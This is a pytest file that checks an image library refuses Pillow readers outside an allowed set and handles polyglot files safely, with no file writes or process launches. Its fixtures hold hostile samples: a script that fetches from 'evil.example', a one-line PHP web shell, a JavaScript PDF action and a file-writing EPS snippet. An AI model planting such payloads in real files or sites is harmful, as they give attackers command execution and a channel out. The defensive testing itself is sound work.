"""Only the readers we chose ever see a file, whatever it pretends to be or is as well."""

from __future__ import annotations

import os
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from imgrec import image_formats
from imgrec.errors import PictureError
from imgrec.images import check_header, open_picture
from imgrec.reasons import Reason
from tests.bombs import saved, small
from tests.worker import ROOT

Image.init()
# MPO is a JPEG with more pictures behind it.
READ = {*image_formats.allowed(), "MPO"}
REFUSED = {Reason.NOT_AN_IMAGE, Reason.FORMAT_NOT_ALLOWED}
OTHERS = sorted(Image.OPEN.keys() - READ)

# Beginnings that the readers ask for, of those that Pillow cannot write.
BEGINNINGS = {
    "BUFR": b"BUFR", "CUR": b"\0\0\2\0", "DCX": b"\xb1\x68\xde\x3a", "FITS": b"SIMPLE",
    "FLI": b"\0\0\0\0\x11\xaf" + bytes(8) + b"\0\0", "FPX": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "FTEX": b"FTEX", "GBR": b"\0\0\0\x1c\0\0\0\2", "GRIB": b"GRIB\0\0\0\1",
    "HDF5": b"\x89HDF\r\n\x1a\n", "IM": b"Image type: RGB image\r\n",
    "IMT": b"*100*\n\x0c", "IPTC": b"\x1c\x01", "MCIDAS":
    b"\0\0\0\0\0\0\0\4", "MIC": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "MPEG": b"\0\0\1\xb3",
    "PCD": b"\xff" * 2048 + b"PCD_", "PIXAR": b"\x80\xe8\0\0", "PSD": b"8BPS", "QOI": b"qoif",
    "SUN": b"\x59\xa6\x6a\x95", "WAL": b"\0" * 32, "WMF": b"\xd7\xcd\xc6\x9a\0\0", "XPM":
    b"/* XPM */", "XVTHUMB": b"P7 332", "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n",
}  # fmt: skip


def sample(kind: str) -> bytes:
    """Return a file of the format: one that Pillow wrote, else its first bytes and some more."""
    for mode in ("RGB", "RGBA", "L", "1", "P", "F"):
        out = BytesIO()
        try:
            Image.new(mode, (32, 32)).save(out, kind)
        except Exception:  # noqa: BLE001, S112 - it has no writer, or none for this mode
            continue
        return out.getvalue()
    return BEGINNINGS[kind] + bytes(4096)


@pytest.fixture
def no_other_reader(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Fail when Pillow so much as asks another reader whether a file is its own."""

    def asked(*args: Any) -> Any:
        raise AssertionError("another reader saw the file")

    for kind in OTHERS:
        monkeypatch.setitem(Image.OPEN, kind, (asked, asked))
    return


def test_there_are_other_readers() -> None:
    assert len(OTHERS) >= 30
    assert {"EPS", "TIFF", "BMP", "PSD", "PPM", "ICO"} <= set(OTHERS)


@pytest.mark.parametrize("kind", OTHERS)
def test_every_other_reader_of_pillow_is_refused(kind: str, no_other_reader: None) -> None:
    data = sample(kind)
    for reader in (check_header, open_picture):
        with pytest.raises(PictureError) as caught:
            reader(data)
        assert caught.value.code in REFUSED


def zipped(inside: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.html", inside)
    return out.getvalue()


SCRIPT = b"<script>fetch('//evil.example')</script><?php system($_GET[0]); ?>"
PDF = b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"
EPS = b"%!PS\n(written-by-a-picture) (w) file closefile showpage\n"
# As one thing they are a picture that is read; as the other they are nothing to us.
BOTH = {
    "JPEG and ZIP": lambda: saved("JPEG") + zipped(SCRIPT),
    "PNG and ZIP": lambda: small() + zipped(SCRIPT),
    "GIF and JavaScript": lambda: saved("GIF") + b"/*" + SCRIPT + b"*/",
    "WebP and PDF": lambda: saved("WEBP") + PDF,
    "PNG and PHP": lambda: small() + SCRIPT,
    "JPEG and EPS": lambda: saved("JPEG", comment=EPS) + EPS,
    "JPEG and TIFF": lambda: saved("JPEG") + sample("TIFF"),
}
# They begin as something else.
NEITHER = {
    "PDF and JPEG": lambda: PDF + saved("JPEG"),
    "EPS and PNG": lambda: EPS + small(),
    "HTML and GIF": lambda: SCRIPT + saved("GIF"),
    "ZIP and PNG": lambda: zipped(small()),
    "BMP and JPEG": lambda: b"BM" + saved("JPEG"),
    "SVG": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
    "TIFF and JPEG": lambda: sample("TIFF") + saved("JPEG"),
}


@pytest.mark.parametrize("name", BOTH)
def test_polyglots_are_the_picture_they_begin_with(name: str, no_other_reader: None) -> None:
    assert open_picture(BOTH[name]()).mode == "RGB"


@pytest.mark.parametrize("name", NEITHER)
def test_polyglots_that_begin_as_something_else(name: str, no_other_reader: None) -> None:
    with pytest.raises(PictureError) as caught:
        open_picture(NEITHER[name]())
    assert caught.value.code in REFUSED


@pytest.mark.parametrize("true", image_formats.allowed())
@pytest.mark.parametrize("pretended", image_formats.allowed())
def test_a_beginning_decides_alone(true: str, pretended: str, no_other_reader: None) -> None:
    """The first bytes of one format before the whole of another: never the other's reader."""
    data = saved(pretended)[:16] + saved(true)
    outcome: str
    try:
        outcome = open_picture(data).mode
    except PictureError as error:
        outcome = error.code
    assert outcome in REFUSED | {"RGB", Reason.DAMAGED, Reason.TOO_MANY_PIXELS}


# In a process of its own: Python's audit events cannot be switched off again.
WATCHED = """
import os, sys, django; django.setup()
from pathlib import Path
from imgrec import encoding
from imgrec.errors import PictureError
from imgrec.testing import ColourGrid
def read(data):
    try: encoding.decode(ColourGrid(), data)
    except PictureError: pass
files = [file.read_bytes() for file in sorted(Path(sys.argv[1]).iterdir())]
for data in files: read(data)
def watch(event, arguments):
    if event == "open" and isinstance(arguments[2], int):
        if arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT): print("wrote", arguments[0])
    if event in ("subprocess.Popen", "os.system", "socket.connect"): print(event, arguments)
sys.addaudithook(watch)
for data in files: read(data)
print("read", len(files))
"""


def test_nothing_of_a_file_is_written_or_run(tmp_path: Path) -> None:
    makers = [*BOTH.values(), *NEITHER.values()]
    for number, data in enumerate([*(make() for make in makers), *map(sample, OTHERS)]):
        (tmp_path / f"{number:03}").write_bytes(data)
    environment = {**os.environ, "DJANGO_SETTINGS_MODULE": "tests.settings"}
    command = [sys.executable, "-c", WATCHED, str(tmp_path)]
    done = subprocess.run(command, cwd=ROOT, env=environment, capture_output=True, text=True)
    assert (done.returncode, done.stdout.split("\n")[:-1]) == (
        0,
        [f"read {len(makers) + len(OTHERS)}"],
    ), done.stderr
